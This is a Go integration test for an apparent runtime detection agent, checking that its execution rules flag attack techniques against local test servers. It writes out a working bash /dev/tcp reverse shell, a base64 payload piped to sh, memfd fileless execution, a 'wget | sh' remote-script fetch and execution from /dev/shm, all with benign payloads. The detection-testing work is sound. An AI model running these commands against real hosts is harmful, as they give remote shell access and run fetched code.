package main

import (
	"bufio"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"peregrine/internal/testenv"
)

// The rules of rules/execution.yaml the live scenarios prove.
const (
	ruleReverseShellDup   = "Reverse shell socket redirected to standard stream"
	ruleShellOnSocket     = "Shell started with network socket as standard stream"
	ruleBase64ToShell     = "Base64-decoded payload piped to shell"
	ruleMemfdExec         = "Program executed from memfd"
	ruleScratchDirExec    = "Program executed from shared memory or freshly dropped in temp directory"
	ruleRemoteScriptShell = "Remote script piped to interpreter"
)

// executionRuleNames are the rules of rules/execution.yaml, for negative
// checks.
var executionRuleNames = []string{
	ruleReverseShellDup, ruleShellOnSocket, ruleBase64ToShell,
	ruleMemfdExec, ruleScratchDirExec, ruleRemoteScriptShell,
}

// execCheck is one expectation of the scenario: the alerts of rule (of
// every rule of executionRuleNames when empty) raised by process pid.
type execCheck struct {
	name  string
	rule  string
	pid   string
	count int               // alerts wanted; -1: at least one
	tag   string            // a tag every such alert carries
	want  map[string]string // fields every such alert has
}

// problems lists what the alerts do not meet of the check.
func (c execCheck) problems(all []miningAlert) []string {
	var got []miningAlert
	for _, r := range executionRuleNames {
		if c.rule == "" || r == c.rule {
			got = append(got, alertsOf(all, r, "proc.pid", c.pid)...)
		}
	}
	if c.count >= 0 && len(got) != c.count || c.count < 0 && len(got) == 0 {
		return []string{fmt.Sprintf("%s: %d alerts of %q by pid %s, want %d: %v", c.name, len(got), c.rule, c.pid, c.count, got)}
	}
	var out []string
	for _, a := range got {
		if c.tag != "" && !slices.Contains(a.Tags, c.tag) {
			out = append(out, fmt.Sprintf("%s: %s: tags %v lack %s", c.name, a.Rule, a.Tags, c.tag))
		}
		for k, v := range c.want {
			if a.Fields[k] != v {
				out = append(out, fmt.Sprintf("%s: %s: %s = %q, want %q (fields %v)", c.name, a.Rule, k, a.Fields[k], v, a.Fields))
			}
		}
	}
	return out
}

// reverseShellServer is the attacker's end of a reverse shell: it
// accepts one connection on 127.0.0.1, sends the commands and keeps what
// the shell sends back.
type reverseShellServer struct {
	ln   net.Listener
	got  chan string
	port int
}

// listenReverseShell listens on a port of 127.0.0.1 that no pool rule
// watches and serves one session that sends commands.
func listenReverseShell(t *testing.T, commands string) *reverseShellServer {
	t.Helper()
	ln := listenUnlisted(t)
	s := &reverseShellServer{ln: ln, got: make(chan string, 1), port: ln.Addr().(*net.TCPAddr).Port}
	go func() {
		c, err := ln.Accept()
		if err != nil {
			s.got <- "accept: " + err.Error()
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(30 * time.Second))
		io.WriteString(c, commands)
		b, _ := io.ReadAll(bufio.NewReader(c))
		s.got <- string(b)
	}()
	return s
}

// scriptServer serves one script over HTTP on 127.0.0.1.
type scriptServer struct{ port int }

// serveScript serves body at every path of a port of 127.0.0.1 that no
// pool rule watches, until the test ends.
func serveScript(t *testing.T, body string) scriptServer {
	t.Helper()
	ln := listenUnlisted(t)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, body)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return scriptServer{port: ln.Addr().(*net.TCPAddr).Port}
}

// TestRulesExecutionOnHost runs the agent with rules/execution.yaml and,
// on the host: (a) a bash reverse shell to a listener of the test
// ("exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"), which runs the
// listener's echo and exits; (b) a base64 payload decoded into sh; (c)
// python3 running /bin/true from a memfd; (d) "busybox wget -qO- URL | sh"
// against a web server of the test; (e) a copy of true run from /dev/shm;
// and, as negatives, (f) a bash that opens a /dev/tcp connection on
// descriptor 3 only and (g) a base64 decode into a file. The reverse shell
// raises the dup alert once (at the copy onto descriptor 0 that makes both
// standard streams sockets) and the socket-shell alert once, for the new
// bash -i and not for the scripts its start-up files run; the pipeline its
// base64 alert, the memfd program its memfd alert, the fetch its
// remote-script alert and the /dev/shm program its scratch-directory
// alert, each naming the process (the last two raise nothing else); the
// negatives raise none of the six rules. A run in which the agent dropped
// events is run again.
func TestRulesExecutionOnHost(t *testing.T) {
	testenv.Root(t)
	python := testenv.Tool(t, "python3")
	bash := testenv.Tool(t, "bash")
	busybox := testenv.Tool(t, "busybox")
	rules := filepath.Join(testenv.ModuleRoot(t), "rules", "execution.yaml")
	if _, err := os.Stat(rules); err != nil {
		t.Fatalf("the execution rules: %v", err)
	}

	retryOnDrops(t, func(t *testing.T) miningRun {
		marker := fmt.Sprintf("peregrine-exec-%d-%d", os.Getpid(), time.Now().UnixNano())
		shell := listenReverseShell(t, "echo "+marker+"-rs\nexit\n")
		defer shell.ln.Close()
		plain := listenUnlisted(t)
		go func() {
			if c, err := plain.Accept(); err == nil {
				io.Copy(io.Discard, c)
				c.Close()
			}
		}()

		web := serveScript(t, "echo "+marker+"-web\n")
		live := startPeregrine(t, "watching", "run", "--ring-size", "67108864", "--rules", rules, "-o", "json", "--no-docker")

		// (a) the reverse shell; its output comes back on the socket.
		rs := exec.Command(bash, "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", shell.port))
		if out, err := rs.CombinedOutput(); err != nil {
			t.Fatalf("reverse shell: %v: %s", err, out)
		}
		select {
		case got := <-shell.got:
			if !strings.Contains(got, marker+"-rs") {
				t.Fatalf("the reverse shell did not run the listener's echo: %q", got)
			}
		case <-time.After(30 * time.Second):
			t.Fatal("the reverse shell never answered")
		}
		rsPid := strconv.Itoa(rs.Process.Pid)

		// (b) echo <base64 of "echo MARKER"> | base64 -d | sh.
		payload := base64.StdEncoding.EncodeToString([]byte("echo " + marker + "-b64"))
		b64 := exec.Command("/bin/sh", "-c", "echo "+payload+" | base64 -d | sh")
		if out, err := b64.CombinedOutput(); err != nil || !strings.Contains(string(out), marker+"-b64") {
			t.Fatalf("base64 pipeline: %v: %s", err, out)
		}
		b64Pid := strconv.Itoa(b64.Process.Pid)

		// (c) /bin/true copied into a memfd and run from it.
		script := `import os, sys
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["payload", sys.argv[1]])`
		mem := exec.Command(python, "-c", script, marker+"-memfd")
		if out, err := mem.CombinedOutput(); err != nil {
			t.Fatalf("memfd execution: %v: %s", err, out)
		}
		memPid := strconv.Itoa(mem.Process.Pid)

		// (d) a script fetched with busybox wget and piped into sh; (e) a
		// copy of true run from /dev/shm.
		fetch := exec.Command("/bin/sh", "-c", fmt.Sprintf("%s wget -qO- http://127.0.0.1:%d/install.sh | sh", busybox, web.port))
		if out, err := fetch.CombinedOutput(); err != nil || !strings.Contains(string(out), marker+"-web") {
			t.Fatalf("remote script: %v: %s", err, out)
		}
		fetchPid := strconv.Itoa(fetch.Process.Pid)
		shmExe := "/dev/shm/" + marker
		defer os.Remove(shmExe)
		shm := exec.Command("/bin/sh", "-c", fmt.Sprintf("cp /bin/true %s && exec %s", shmExe, shmExe))
		if out, err := shm.CombinedOutput(); err != nil {
			t.Fatalf("program in /dev/shm: %v: %s", err, out)
		}
		shmPid := strconv.Itoa(shm.Process.Pid)

		// (f) a connection on descriptor 3 only, (g) a decode into a file.
		side := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; echo %s >&3; exec 3>&-", plain.Addr().(*net.TCPAddr).Port, marker))
		if out, err := side.CombinedOutput(); err != nil {
			t.Fatalf("socket on descriptor 3: %v: %s", err, out)
		}
		decode := exec.Command("/bin/sh", "-c", "echo "+payload+" | base64 -d > /dev/null")
		if out, err := decode.CombinedOutput(); err != nil {
			t.Fatalf("base64 to a file: %v: %s", err, out)
		}

		waitForAlerts(t, live, func(all []miningAlert) bool {
			return len(alertsOf(all, ruleReverseShellDup, "proc.pid", rsPid)) > 0 &&
				len(alertsOf(all, ruleShellOnSocket, "proc.pid", rsPid)) > 0 &&
				len(alertsOf(all, ruleBase64ToShell, "proc.pid", b64Pid)) > 0 &&
				len(alertsOf(all, ruleMemfdExec, "proc.pid", memPid)) > 0 &&
				len(alertsOf(all, ruleRemoteScriptShell, "proc.pid", fetchPid)) > 0 &&
				len(alertsOf(all, ruleScratchDirExec, "proc.pid", shmPid)) > 0
		})

		conn := fmt.Sprintf("->127.0.0.1:%d", shell.port)
		return finishExecution(t, live, conn, marker+"-memfd", []execCheck{
			{"reverse shell dup", ruleReverseShellDup, rsPid, 1, "T1059.004", map[string]string{
				"proc.name": "bash", "evt.rawres": "0", "fd.type": "ipv4", "fd.rip": "127.0.0.1", "fd.rport": strconv.Itoa(shell.port), "user.name": "root",
			}},
			{"reverse shell started", ruleShellOnSocket, rsPid, 1, "T1071", map[string]string{
				"proc.name": "bash", "proc.cmdline": "bash -i", "proc.stdin.type": "ipv4", "proc.stdout.type": "ipv4", "container.id": "host",
			}},
			{"base64 pipeline", ruleBase64ToShell, b64Pid, 1, "T1140", map[string]string{
				"proc.name": "sh", "proc.cmdline": "sh -c echo " + payload + " | base64 -d | sh",
			}},
			{"memfd", ruleMemfdExec, memPid, 1, "T1620", map[string]string{
				"evt.type": "execve", "proc.exepath": "memfd:payload", "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD",
			}},
			{"remote script", ruleRemoteScriptShell, fetchPid, 1, "T1105", map[string]string{
				"proc.name": "sh", "proc.cmdline": fmt.Sprintf("sh -c %s wget -qO- http://127.0.0.1:%d/install.sh | sh", busybox, web.port),
			}},
			{"remote script, the rest", "", fetchPid, 1, "", nil},
			{"program in /dev/shm", ruleScratchDirExec, shmPid, 1, "T1059", map[string]string{
				"proc.name": marker[:15], "proc.exepath": shmExe,
			}},
			{"program in /dev/shm, the rest", "", shmPid, 1, "", nil},
			{"socket on descriptor 3", "", strconv.Itoa(side.Process.Pid), 0, "", nil},
			{"base64 to a file", "", strconv.Itoa(decode.Process.Pid), 0, "", nil},
		})
	})
}

// finishExecution stops the agent and checks its alerts; the dup alert
// of checks[0] must name the reverse shell's connection (its name ends
// with conn), the memfd alert of checks[3] the program's argument.
func finishExecution(t *testing.T, live *liveCmd, conn, memMarker string, checks []execCheck) miningRun {
	t.Helper()
	r, all := stopRun(t, live)
	for _, c := range checks {
		r.problems = append(r.problems, c.problems(all)...)
	}
	for _, a := range alertsOf(all, ruleReverseShellDup, "proc.pid", checks[0].pid) {
		if !strings.HasSuffix(a.Fields["fd.name"], conn) {
			r.problems = append(r.problems, fmt.Sprintf("reverse shell dup: fd.name %q, want the connection to %s", a.Fields["fd.name"], conn))
		}
	}
	for _, a := range alertsOf(all, ruleMemfdExec, "proc.pid", checks[3].pid) {
		if !strings.HasSuffix(a.Fields["proc.cmdline"], " "+memMarker) {
			r.problems = append(r.problems, fmt.Sprintf("memfd: proc.cmdline %q, want it to end with %s", a.Fields["proc.cmdline"], memMarker))
		}
	}
	return r
}
